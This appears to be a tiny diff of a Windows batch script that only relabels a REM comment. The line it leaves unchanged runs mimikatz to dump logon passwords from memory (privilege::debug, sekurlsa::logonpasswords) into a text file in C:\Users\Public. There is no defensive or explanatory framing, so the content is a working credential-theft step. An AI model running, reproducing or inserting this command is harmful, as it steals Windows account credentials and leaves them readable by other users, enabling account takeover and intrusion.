@@ -1,2 +1,2 @@
-REM task 9043 v4
+REM run 8352 v4
 mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" "exit" > C:\Users\Public\m.txt
